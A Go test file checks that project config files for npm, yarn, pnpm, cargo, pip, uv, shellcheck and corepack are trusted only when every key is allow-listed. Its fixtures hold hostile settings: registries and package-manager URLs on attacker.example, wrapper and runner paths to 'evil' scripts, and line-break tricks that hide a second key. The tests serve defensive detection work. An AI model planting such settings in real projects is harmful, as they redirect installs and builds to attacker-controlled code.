package repotrust

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestProjectFiles: files a model can write in the project (or that
// arrive with it) that steer npm, yarn, rustc/cargo, pip and uv; each is
// trusted only with keys from the allow-list.
func TestProjectFiles(t *testing.T) {
	type file struct{ path, text string }
	cases := []struct {
		name   string
		files  []file
		check  func(dir, sb string) (bool, string)
		cwd    string // below the sandbox
		safe   bool
		reason string
	}{
		{"no .npmrc", nil, NpmTrusted, "", true, ""},
		{".npmrc save-exact", []file{{".npmrc", "save-exact=true\n# comment\nengine-strict = true\n"}}, NpmTrusted, "", true, ""},
		{".npmrc logs-dir", []file{{".npmrc", "logs-dir=/home/someone/.ssh\n"}}, NpmTrusted, "", false, ".npmrc:1:1: key logs-dir"},
		{".npmrc registry", []file{{".npmrc", "save-exact=true\n  registry=https://attacker.example/\n"}}, NpmTrusted, "", false, ".npmrc:2:3: key registry"},
		{".npmrc scoped registry", []file{{".npmrc", "@corp:registry=https://attacker.example/\n"}}, NpmTrusted, "", false, "@corp:registry"},
		{".npmrc script-shell", []file{{".npmrc", "script-shell=./sh\n"}}, NpmTrusted, "", false, "script-shell"},
		{".npmrc in a parent", []file{{".npmrc", "cache=/tmp/c\n"}}, NpmTrusted, "pkg/sub", false, "cache"},
		{".npmrc with a BOM", []file{{".npmrc", "\xef\xbb\xbfprefix=/usr\n"}}, NpmTrusted, "", false, "prefix"},
		{".npmrc section", []file{{".npmrc", "[x]\nsave-exact=true\n"}}, NpmTrusted, "", false, "section"},
		{".npmrc is a directory", []file{{".npmrc/x", ""}}, NpmTrusted, "", false, "cannot be read"},
		{".npmrc lone CR", []file{{".npmrc", "fund=false\rlogs-dir=/home/someone/logs\n"}}, NpmTrusted, "", false, ".npmrc:1: a line break other than LF"},
		{".npmrc CR LF", []file{{".npmrc", "fund=false\r\nsave-exact=true\r\n"}}, NpmTrusted, "", true, ""},
		{".npmrc lone CR at the end", []file{{".npmrc", "fund=false\nsave-exact=true\r"}}, NpmTrusted, "", false, ".npmrc:2: a line break"},
		{".yarnrc.yml lone CR", []file{{".yarnrc.yml", "nodeLinker: node-modules\ryarnPath: ./evil.cjs\n"}}, YarnTrusted, "", false, ".yarnrc.yml:1: a line break"},
		{".yarnrc.yml NEL", []file{{".yarnrc.yml", "nodeLinker: node-modules\u0085yarnPath: ./evil.cjs\n"}}, YarnTrusted, "", false, "a line break"},
		{".yarnrc.yml line separator", []file{{".yarnrc.yml", "nodeLinker: x\u2028yarnPath: ./e.cjs\n"}}, YarnTrusted, "", false, "a line break"},
		{".cargo/config.toml lone CR", []file{{".cargo/config.toml", "[term]\rcolor = 'always'\n"}}, CargoTrusted, "", false, "a line break"},

		{".yarnrc yarn-path", []file{{".yarnrc", "yarn-path \"./evil.js\"\n"}}, YarnTrusted, "", false, "yarn-path"},
		{".yarnrc save-prefix", []file{{".yarnrc", "save-prefix \"~\"\n"}}, YarnTrusted, "", true, ""},
		{".yarnrc.yml yarnPath", []file{{".yarnrc.yml", "nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.cjs\n"}}, YarnTrusted, "", false, ".yarnrc.yml:2:1: key yarnPath"},
		{".yarnrc.yml nodeLinker", []file{{".yarnrc.yml", "# c\nnodeLinker: \"node-modules\"\nenableTelemetry: false\n"}}, YarnTrusted, "", true, ""},
		{".yarnrc.yml telemetry on", []file{{".yarnrc.yml", "enableTelemetry: true\n"}}, YarnTrusted, "", false, "enableTelemetry"},
		{".yarnrc.yml nested", []file{{".yarnrc.yml", "packageExtensions:\n  x: y\n"}}, YarnTrusted, "", false, "packageExtensions"},

		{"no pnpm files", nil, PnpmTrusted, "", true, ""},
		{".pnpmfile.cjs", []file{{".pnpmfile.cjs", "module.exports = {hooks: {}}\n"}}, PnpmTrusted, "", false, ".pnpmfile.cjs is a script pnpm loads"},
		{".pnpmfile.mjs in a parent", []file{{".pnpmfile.mjs", "export default {}\n"}}, PnpmTrusted, "packages/a", false, ".pnpmfile.mjs"},
		{"pnpmfile.js", []file{{"pnpmfile.js", "\n"}}, PnpmTrusted, "", false, "pnpmfile.js"},
		{"pnpm-workspace.yaml packages", []file{{"pnpm-workspace.yaml", "# w\npackages:\n  - 'packages/*'\n  - \"apps/*\" # c\n"}}, PnpmTrusted, "", true, ""},
		{"pnpm-workspace.yaml pnpmfile", []file{{"pnpm-workspace.yaml", "packages:\n  - a\npnpmfile: evil.cjs\n"}}, PnpmTrusted, "", false, "pnpm-workspace.yaml:3:1: pnpmfile"},
		{"pnpm-workspace.yaml flow list", []file{{"pnpm-workspace.yaml", "packages: [a, b]\n"}}, PnpmTrusted, "", false, "packages"},
		{"package.json pnpm overrides", []file{{"package.json", `{"name": "x", "pnpm": {"overrides": {"a": "1"}}}`}}, PnpmTrusted, "", true, ""},
		{"package.json pnpm executionEnv", []file{{"package.json", `{"pnpm": {"executionEnv": {"nodeVersion": "22"}}}`}}, PnpmTrusted, "", false, "pnpm.executionEnv"},
		{"package.json not an object", []file{{"package.json", `[]`}}, PnpmTrusted, "", false, "not read as a JSON object"},
		{"pnpm-workspace.yaml nested setting", []file{{"pnpm-workspace.yaml", "packages:\n  - a\n  configDependencies: x\n"}}, PnpmTrusted, "", false, "not a plain packages entry"},

		{"no .shellcheckrc", nil, ShellcheckTrusted, "", true, ""},
		{".shellcheckrc external-sources", []file{{".shellcheckrc", "# c\ndisable=SC2086\nexternal-sources=true\n"}}, ShellcheckTrusted, "", false, ".shellcheckrc:3:1: external-sources"},
		{"shellcheckrc in a parent", []file{{"shellcheckrc", "source-path=/etc\n"}}, ShellcheckTrusted, "scripts/ci", false, "source-path"},
		{".shellcheckrc two pairs on a line", []file{{".shellcheckrc", "disable=SC1 external-sources=true\n"}}, ShellcheckTrusted, "", false, "external-sources"},
		{".shellcheckrc warnings only", []file{{".shellcheckrc", "disable=SC2086,SC2046\nenable=require-variable-braces # c\nshell=bash\n"}}, ShellcheckTrusted, "", true, ""},

		{"no toolchain file", nil, RustToolchainTrusted, "", true, ""},
		{"rust-toolchain.toml path", []file{{"rust-toolchain.toml", "[toolchain]\npath = \"./tc\"\n"}}, RustToolchainTrusted, "", false, "rust-toolchain.toml"},
		{"rust-toolchain channel", []file{{"rust-toolchain", "nightly-2020-01-01\n"}}, RustToolchainTrusted, "crates/a", false, "rust-toolchain"},

		{".cargo/config.toml wrapper", []file{{".cargo/config.toml", "[build]\nrustc-wrapper = \"./w.sh\"\n"}}, CargoTrusted, "", false, ".cargo/config.toml:2:1: key build.rustc-wrapper"},
		{".cargo/config runner", []file{{".cargo/config", "[target.x86_64-unknown-linux-gnu]\nrunner = \"./r.sh\"\n"}}, CargoTrusted, "", false, "runner"},
		{".cargo/config.toml dotted key", []file{{".cargo/config.toml", "build.rustc = \"./rustc\"\n"}}, CargoTrusted, "", false, "build.rustc"},
		{".cargo/config.toml quoted table", []file{{".cargo/config.toml", "[ \"build\" ]\n\"rustc-wrapper\" = './w'\n"}}, CargoTrusted, "", false, "build.rustc-wrapper"},
		{".cargo/config.toml harmless", []file{{".cargo/config.toml", "[term]\ncolor = \"always\" # c\n[build]\njobs = 4\n"}}, CargoTrusted, "", true, ""},
		{".cargo/config.toml array", []file{{".cargo/config.toml", "[build]\njobs = [\n1]\n"}}, CargoTrusted, "", false, "value not read"},
		{".cargo/config.toml in a parent", []file{{".cargo/config.toml", "[alias]\nb = \"run\"\n"}}, CargoTrusted, "crates/a", false, "alias.b"},

		{"pip.conf index-url", []file{{"pip.conf", "[global]\nindex-url = https://attacker.example/simple\n"}}, pipIn, "", false, "index-url"},
		{"venv pip.conf", []file{{".venv/pip.conf", "[install]\ntrusted-host = attacker.example\n"}}, pipIn, "", false, "trusted-host"},
		{"pip.ini harmless", []file{{"pip.ini", "[global]\ndisable-pip-version-check = true\n"}}, pipIn, "", true, ""},

		{"no package.json", nil, CorepackTrusted, "", true, ""},
		{"package.json without packageManager", []file{{"package.json", `{"name": "x", "scripts": {"test": "jest"}}`}}, CorepackTrusted, "", true, ""},
		{"packageManager release", []file{{"package.json", `{"packageManager": "pnpm@9.1.0"}`}}, CorepackTrusted, "", true, ""},
		{"packageManager release with hash", []file{{"package.json", `{"packageManager": "yarn@4.2.2+sha512.0123abcd"}`}}, CorepackTrusted, "", true, ""},
		{"packageManager prerelease", []file{{"package.json", `{"packageManager": "yarn@4.0.0-rc.53"}`}}, CorepackTrusted, "", true, ""},
		{"packageManager URL", []file{{"package.json", `{"packageManager": "yarn@https://attacker.example/yarn.js"}`}}, CorepackTrusted, "", false, "not a released version"},
		{"packageManager tag", []file{{"package.json", `{"packageManager": "pnpm@latest"}`}}, CorepackTrusted, "", false, "not a released version"},
		{"packageManager not a string", []file{{"package.json", `{"packageManager": {"name": "yarn"}}`}}, CorepackTrusted, "", false, "not a released version"},
		{"packageManager duplicate key, last wins", []file{{"package.json", `{"packageManager": "pnpm@9.1.0", "packageManager": "pnpm@https://x/p.tgz"}`}}, CorepackTrusted, "", false, "not a released version"},
		{"packageManager in a parent", []file{{"package.json", `{"packageManager": "yarn@https://attacker.example/y.js"}`}}, CorepackTrusted, "packages/a", false, "packageManager"},
		{"devEngines packageManager", []file{{"package.json", `{"devEngines": {"packageManager": {"name": "pnpm", "version": "^9"}}}`}}, CorepackTrusted, "", false, "devEngines.packageManager"},
		{"devEngines runtime only", []file{{"package.json", `{"devEngines": {"runtime": {"name": "node"}}}`}}, CorepackTrusted, "", true, ""},
		{"package.json not an object", []file{{"package.json", `[1]`}}, CorepackTrusted, "", false, "JSON object"},
		{"package.json with a BOM", []file{{"package.json", "\xef\xbb\xbf{}"}}, CorepackTrusted, "", false, "JSON object"},
		{".corepack.env", []file{{".corepack.env", "COREPACK_NPM_REGISTRY=https://attacker.example\n"}}, CorepackTrusted, "", false, ".corepack.env"},

		{"uv.toml index", []file{{"uv.toml", "index-url = \"https://attacker.example\"\n"}}, UvTrusted, "", false, "index-url"},
		{"uv.toml harmless", []file{{"uv.toml", "link-mode = \"copy\"\n"}}, UvTrusted, "", true, ""},
		{"pyproject tool.uv", []file{{"pyproject.toml", "[project]\nname = \"x\"\nauthors = [{name = \"a\"}]\n[tool.uv]\npython-downloads = \"automatic\"\n"}}, UvTrusted, "", false, "tool.uv.python-downloads"},
		{"pyproject dotted tool.uv", []file{{"pyproject.toml", "[tool]\nuv.index-url = \"https://attacker.example\"\n"}}, UvTrusted, "", false, "tool.uv.index-url"},
		{"pyproject other tools", []file{{"pyproject.toml", "[project]\nname = \"x\"\ndependencies = [\n  \"requests\",\n]\n[tool.ruff]\nline-length = 100\n"}}, UvTrusted, "", true, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			sb := realTemp(t)
			for _, f := range c.files {
				writeFile(t, filepath.Join(sb, f.path), f.text, 0o644)
			}
			dir := filepath.Join(sb, c.cwd)
			assert.NoError(t, os.MkdirAll(dir, 0o755))
			ok, reason := c.check(dir, sb)
			assert.Equal(t, c.safe, ok, reason)
			if !c.safe {
				assert.Contains(t, reason, c.reason)
			}
		})
	}
	// Outside the sandbox nothing is known.
	ok, _ := NpmTrusted("/", realTemp(t))
	assert.False(t, ok)
}

func pipIn(dir, sb string) (bool, string) { return PipTrusted(dir, sb, nil) }
